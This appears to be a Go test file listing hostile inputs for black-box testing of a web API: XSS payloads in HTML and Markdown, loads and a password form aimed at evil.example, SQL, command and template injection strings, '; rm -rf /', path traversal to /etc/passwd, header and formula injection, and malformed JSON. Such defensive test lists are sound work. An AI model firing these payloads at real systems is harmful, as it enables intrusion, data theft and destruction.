package blackbox_test

import "strings"

// hostileMarkdown are instructions that try to run something, to load something from elsewhere, or to lead a reader to
// where an address does not show.
var hostileMarkdown = []string{
	"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script>", "<script\n>alert(1)\n</script>\n",
	"<img src=x onerror=alert(1)>", "<img src=//evil.example/pixel.png>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<svg onload=alert(1)>", "<svg><script href=data:,alert(1) />", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
	"<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
	"<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=password><button>Sign in</button></form>", "<style>@import '//evil.example/x.css';</style>", "<p style='background:url(//evil.example/x)'>x</p>",
	"<video poster=//evil.example/x><source onerror=alert(1)></video>", "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='https://e.example' onclick=alert(1) target=_blank>x</a>",
	"<!-- --><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE html>", "<textarea></textarea><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"![x](https://evil.example/pixel.png)", "![x](//evil.example/pixel.png)", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x][p]\n\n[p]: https://evil.example/pixel.png", "[![x](https://evil.example/p.png)](javascript:alert(1))", "![x](\"onerror=alert(1)x=\")",
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](<java\nscript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](\x01javascript:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)",
	"[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](blob:https://e.example/1)", "[x](//evil.example)", "[x](\\\\evil.example\\share)", "[x](/api/v1/api-keys)",
	"[x](?delete=1)", "[x](#top)", "[x](view-source:https://e.example)", "[x](intent://x#Intent;end)", "[x](chrome://settings)", "[x](https://e.example \"\\\" onmouseover=alert(1) x=\\\"\")", "[x](https://e.example/\"onmouseover=\"alert(1))", "[x](https://e.example/%22%3E%3Cscript%3E)",
	"[x](https://user:password@evil.example)", "[https://bank.example](https://evil.example)", "[x]: javascript:alert(1)\n[x]", "[x][y]\n\n[y]: <javascript:alert(1)> 'z'", "<javascript:alert(1)>", "<data:text/html,x>", "<tel:+4912345>", "https://evil.example/\"onclick=alert(1)",
	"www.evil.example/<script>", "mailto:x@y.example?body=<script>", "a@b.example", "javascript:alert(1)", "```html\"onload=alert(1)\n<script>\n```", "~~~<img src=x>\n</code></pre><script>\n~~~", "`<script>`", "``` `<script>` ```", "    <script>indented</script>",
	"| a | b |\n|---|:-:|\n| <script> | ![x](//e.example) |", "# <img src=x onerror=alert(1)>", "> <script>", "- <svg/onload=alert(1)>", "1. [x](javascript:a)", "*[x](javascript:a)*", "~~<b>~~", "\\<script\\>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script>", "\x00<script\x00>",
	"\u202e[x](javascript:alert(1))", "[x\u200b](java\u200bscript:alert(1))", "\uff1cscript\uff1e", "<\u017fcript>", strings.Repeat("[", 3_000), strings.Repeat("![", 2_000), strings.Repeat("> ", 2_000) + "<script>", strings.Repeat("<b", 3_000), strings.Repeat("*a_", 2_000), strings.Repeat("&", 4_000),
}

// hostileTexts are texts where an honest person writes a name, a remark or a decision. Those in quotes are JSON as it
// is sent.
var hostileTexts = []string{
	"\x00", "a\x00b", "\x01", "\x1b[2J", "\x7f", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\r\nSet-Cookie: a=b", "\r\n\r\n<html>", "a\nb", "\t", " ", "   ", "\u00a0", "\u2028", "\ufeff", "\u200b", "\u202egpj.exe", "\ud7ff", "\ue000", "\uffff", "\U0010ffff", "\U000e0001",
	"e\u0301\u0301\u0301", strings.Repeat("\u0301", 500), "ﬁ", "İ", "ß", "\u1e9e", "null", "undefined", "NaN", "true", "0", "-1", "1e999", "[]", "{}", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "${ . }", "${ $secrets }", "${ env }", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "%s%n%x", "$(id)", "`id`", "; rm -rf /", "| cat /etc/passwd",
	"' OR 1=1 --", "'; DROP TABLE human_task; --", "\" OR \"\"=\"", "\\", "\\'", "%", "_", "%%%", "../../etc/passwd", "..\\..\\windows", "/dev/null", "C:\\con", "file:///etc/passwd", "https://evil.example/?q=<script>", "javascript:alert(1)", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0",
	strings.Repeat("a", 301), strings.Repeat("a", 501), strings.Repeat("é", 251), strings.Repeat("\U0001f600", 5_000), strings.Repeat("x", 17_000), strings.Repeat("<", 20_000), strings.Repeat("\\", 10_000), strings.Repeat("\x00", 1_000), "done", "Done", "done ", "done\x00", "dоne",
	`"\ud800"`, `"\udc00\ud800"`, `"\u0000"`, `"\ud83d\ude00"`, "\"\xff\"", "\"\xc0\x80\"", "\"\xed\xa0\x80\"", "\"a\xf0\x9f\"",
}

// hostileData are values where a form asks for an object with a remark.
var hostileData = []string{
	"null", "true", "0", `""`, `"x"`, "[]", "[{}]", "{}", `{"remark":null}`, `{"remark":{}}`, `{"remark":[]}`, `{"remark":7}`, `{"other":"x"}`, `{"remark":"x","other":"y"}`, `{"":""}`, `{"__proto__":{"admin":true}}`, `{"constructor":{"prototype":{}}}`, `{"\u0000":"x"}`, `{"remark":"x","remark":"y"}`,
	`{"a/b~c":"x"}`, `{"remark":"` + strings.Repeat("x", 10_000) + `"}`, `{"remark":"` + strings.Repeat("x", 300_000) + `"}`, `{"n":1e400}`, `{"n":-0}`, `{"n":` + strings.Repeat("9", 5_000) + `}`, `{"n":0.` + strings.Repeat("1", 5_000) + `}`, `{"n":1E-999999}`, `{"deep":` + strings.Repeat("[", 90) + strings.Repeat("]", 90) + `}`,
	`{"deep":` + strings.Repeat("[", 2_000) + strings.Repeat("]", 2_000) + `}`, `{"deep":` + strings.Repeat(`{"a":`, 300) + "1" + strings.Repeat("}", 300) + `}`, "{" + strings.Repeat(`"x":1,`, 3_000) + `"y":1}`, `{"list":[` + strings.Repeat("0,", 20_000) + `0]}`, `{"f":{"uri":"/api/v1/files/` + nobody + `"}}`, `{"f":{"uri":"file:///etc/passwd"}}`,
	`{"f":{"uri":"https://evil.example/x","name":"x"}}`, `{"f":{"uri":"/api/v1/files/../../etc/passwd"}}`, `{"$ref":"#/definitions/x"}`, `{"$schema":"https://evil.example/schema"}`, `{"remark":"\ud800"}`, "{\"remark\":\"\xff\"}", `{remark:1}`, `{"remark":'x'}`, `{"remark":"x"`, `{"remark":"x"}}`, `[1,]`, `{"remark":NaN}`, `{"remark":0x10}`, `{"remark":01}`, "\ufeff{}",
}

// hostileNames are names of files.
var hostileNames = []string{
	"../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\windows\\win.ini", "CON", "nul.txt", "..", ".", "", " ", ".htaccess", "a/b", "a\\b", "a\x00.txt", "a\r\nX-Evil: 1", "a\"; filename=\"b.exe", "a;b", "a'b", "a`id`", "$(id)", "-rf", "--help", "<script>.html", "x.svg", "x.html", "\u202egpj.exe",
	"\xff\xfe", "é.txt", "\U0001f600", strings.Repeat("n", 255), strings.Repeat("n", 256), strings.Repeat("é", 3_000), "a.txt\u0000", "%2e%2e%2f", "%00", "a%0d%0ab", "filename*=UTF-8''x", "x\u2028y", "aux.json", "x.txt.", "x.txt ",
}

// hostileTokens are what a path or a list has instead of the id of a task.
var hostileTokens = []string{
	"x", "0", "-1", "..", "../api-keys", "%2e%2e", "counts/..", "null", nobody, strings.ToUpper(nobody), "{" + nobody + "}", strings.ReplaceAll(nobody, "-", ""), nobody + " ", " " + nobody, nobody + "\x00", nobody + "/answer", nobody + "%00", nobody[:35], nobody + "0", "' OR 1=1 --", "*", "?", "#",
	"<script>", "\u202e", "\xff", strings.Repeat("a", 5_000), strings.Repeat("/", 500), "01900000-0000-7000-8000-00000000000g", "urn:uuid:" + nobody, "\r\nX-Evil: 1", "answer", "Stream", "me",
}
